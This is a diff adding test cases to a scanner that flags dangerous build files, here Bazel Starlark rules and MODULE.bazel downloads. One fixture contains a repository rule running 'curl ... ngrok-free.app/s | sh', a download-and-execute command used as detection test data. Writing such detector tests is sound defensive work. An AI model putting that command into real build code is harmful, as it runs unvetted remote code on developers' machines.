@@ -558,6 +558,17 @@ describe("build-code-behavior: direnv's .envrc", () => {
     expect(buildFinding(added('Dockerfile', dockerfile))).toBeNull();
   });
 
+  it('reads Bazel Starlark files as build code: a repository rule that pipes a download into a shell', () => {
+    expect(buildFinding(added('tools/deps.bzl', 'def _impl(rctx):\n    rctx.execute(["sh", "-c", "curl -s https://x.ngrok-free.app/s | sh"])\n    rctx.file("BUILD", "")'))).toMatchObject({ severity: 'critical', title: 'Bazel Starlark file downloads and runs code when Bazel fetches the external repositories' });
+    expect(buildFinding(added('MODULE.bazel', 'http_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\nhttp_archive(name = "zlib", urls = ["http://91.92.1.3/zlib.tar.gz"])'))).toMatchObject({ severity: 'medium' });
+  });
+
+  it('is quiet on ordinary Bazel: archives from release pages with a checksum, tools the rule runs', () => {
+    const bzl = ['def _impl(rctx):', '    rctx.download_and_extract(url = "https://github.com/protocolbuffers/protobuf/releases/download/v28.2/protoc-28.2-linux-x86_64.zip", sha256 = "2febfd42b59ce93a28eb789019a470a3dd0449619bc04f84dad1333da261dec1")', '    rctx.execute(["chmod", "+x", "bin/protoc"])', '    rctx.file("BUILD.bazel", "exports_files([\\"bin/protoc\\"])")'].join('\n');
+    expect(buildFinding(added('third_party/protoc.bzl', bzl))).toBeNull();
+    expect(buildFinding(added('MODULE.bazel', 'module(name = "app", version = "1.0")\nbazel_dep(name = "rules_go", version = "0.50.1")\nbazel_dep(name = "gazelle", version = "0.39.1")'))).toBeNull();
+  });
+
   it('is quiet on what .envrc files hold: exports, layouts, Nix and devbox hooks, dotenv', () => {
     for (const text of [
       'use flake',
